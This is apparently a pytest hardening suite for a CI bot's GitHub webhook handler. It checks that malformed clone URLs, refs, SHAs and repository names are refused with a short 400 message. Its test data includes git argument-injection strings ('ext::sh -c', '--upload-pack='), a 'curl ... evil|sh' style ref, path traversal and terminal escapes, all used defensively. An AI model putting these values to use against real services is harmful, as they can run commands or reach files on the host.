"""Signed deliveries with malformed values: refused with a sentence, never a traceback.

The defect this pins down: a signed delivery whose ``clone_url`` held a lone
surrogate (or was a megabyte long) was answered 202, then crashed the queue job
with a traceback.  Now the URL, refs, commit ids and repository name are checked
when the delivery arrives (400 naming the field; nothing stored), and again in the
job, so one stored before the check existed ends ``failed`` with the same sentence.
"""

from __future__ import annotations

import json
import logging
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ci_bot.github.dispatch import JOB
from ci_bot.github.events import route
from tests.hardening.support import WebhookBot, pull_request_payload, push_payload, webhook_bot

BAD_CLONE_URLS = [
    "https://github.com/acme/\ud800app.git",  # a lone surrogate, as reported
    "https://github.com/" + "a" * (1024 * 1024),  # a megabyte, as reported
    "ssh://git@github.com/acme/app.git",
    "git://github.com/acme/app.git",
    "ext::sh -c touch% /tmp/pwned",
    "--upload-pack=touch /tmp/pwned",
    "file:///etc",  # a local path, without CI_BOT_ALLOW_LOCAL_CLONES
    "https://user:password@github.com/acme/app.git",
    "https://github.com/acme/app .git",
    "https://github.com/acme/\x1b]0;x\x07app.git",
    "https:///acme/app.git",
    "",
]
BAD_REFS = [
    "refs/heads/ma\x1b[2Jin",
    "refs/heads/\ud800",
    "refs/heads/../../etc",
    "refs/heads/-rf",
    "refs/heads/a b",
    "refs/heads/x~1",
    "refs/heads/x^{}",
    "refs/heads/x:y",
    "refs/heads/x?",
    "refs/heads/x*",
    "refs/heads/x[",
    "refs/heads/x\\y",
    "refs/heads/x@{1}",
    "refs/heads/x.lock",
    "refs/heads/x/",
    "refs/heads/.hidden",
    "refs/heads/" + "b" * 300,
]


@pytest.fixture
def bot(tmp_path: Path) -> Iterator[WebhookBot]:
    made = webhook_bot(tmp_path / "data")
    yield made
    made.close()


def refused(bot: WebhookBot, event: str, payload: dict[str, Any], field: str) -> None:
    response = bot.deliver(event, payload)
    assert response.status_code == 400, response.get_data(as_text=True)[:300]
    error = response.get_json()["error"]
    assert field in error, error
    assert len(error) < 400  # a sentence, not the megabyte back
    assert bot.services.store.unhandled_deliveries() == []


@pytest.mark.parametrize("url", BAD_CLONE_URLS, ids=lambda u: ascii(u[:40]))
def test_a_malformed_clone_url_is_refused_at_the_door(bot: WebhookBot, url: str) -> None:
    refused(bot, "push", push_payload(clone_url=url), "repository.clone_url")


@pytest.mark.parametrize("ref", BAD_REFS, ids=lambda r: ascii(r[:40]))
def test_a_ref_git_would_refuse_is_refused_at_the_door(bot: WebhookBot, ref: str) -> None:
    refused(bot, "push", push_payload(ref=ref), "ref")


@pytest.mark.parametrize(
    ("head", "field"),
    [
        ({"ref": "feature\x07"}, "pull_request.head.ref"),
        ({"sha": "not-a-sha"}, "pull_request.head.sha"),
        ({"sha": "A" * 40}, "pull_request.head.sha"),
        ({"repo": {"full_name": "../../orgs/x"}}, "pull_request.head.repo.full_name"),
    ],
)
def test_pull_request_heads_are_checked(bot: WebhookBot, head: dict[str, Any], field: str) -> None:
    refused(bot, "pull_request", pull_request_payload(**head), field)


@pytest.mark.parametrize("name", ["../../user/x", "acme", "acme/app/extra", "acme/..", "a b/c"])
def test_a_repository_name_that_could_retarget_an_api_path_is_refused(
    bot: WebhookBot, name: str
) -> None:
    payload = push_payload()
    payload["repository"]["full_name"] = name
    refused(bot, "push", payload, "repository.full_name")


def test_good_values_still_pass(bot: WebhookBot) -> None:
    for ref in ("refs/heads/main", "refs/heads/feature/x;curl${IFS}evil|sh", "refs/heads/é"):
        assert bot.deliver("push", push_payload(ref=ref)).status_code == 202, ref
    http = push_payload(clone_url="http://github.com/github/hello-world.git")  # as in GitHub's
    assert bot.deliver("push", http).status_code == 202  # own examples; no token goes to it


def test_a_local_clone_url_needs_the_setting(tmp_path: Path) -> None:
    local = webhook_bot(tmp_path / "data", allow_local_clones=True)
    try:
        here = push_payload(clone_url="file:///srv/app.git")
        assert local.deliver("push", here).status_code == 202
        elsewhere = push_payload(clone_url="file://elsewhere/app.git")
        assert local.deliver("push", elsewhere).status_code == 400
    finally:
        local.close()


def test_a_malformed_delivery_stored_before_the_check_fails_with_a_sentence_not_a_traceback(
    bot: WebhookBot, caplog: pytest.LogCaptureFixture
) -> None:
    """As if stored by an older ci-bot: the job routes it again and records the refusal."""
    store = bot.services.store
    for number, url in enumerate(BAD_CLONE_URLS[:2]):
        text = json.dumps(push_payload(clone_url=url))
        assert store.record_delivery(f"old-{number}", "github", "push", text)
        bot.services.queue.submit(JOB, delivery=f"old-{number}")
    caplog.set_level(logging.INFO)
    bot.services.queue.run_pending()
    for number in range(2):
        delivery = store.delivery(f"old-{number}")
        assert delivery.status == "failed"
        assert "repository.clone_url" in delivery.outcome and len(delivery.outcome) < 400
    assert not [record for record in caplog.records if record.exc_info]
    assert not (bot.services.settings.data_dir / "mirrors").exists()  # git never ran


def test_route_itself_refuses_a_lone_surrogate_in_any_field_it_reads() -> None:
    payload = push_payload()
    payload["pusher"]["name"] = "\ud800"  # an optional field: read as absent
    payload["sender"]["login"] = "dev"
    assert route("push", payload).author == "dev"  # type: ignore[union-attr]
    payload["after"] = "\ud800" * 40
    with pytest.raises(Exception, match="after"):
        route("push", payload)
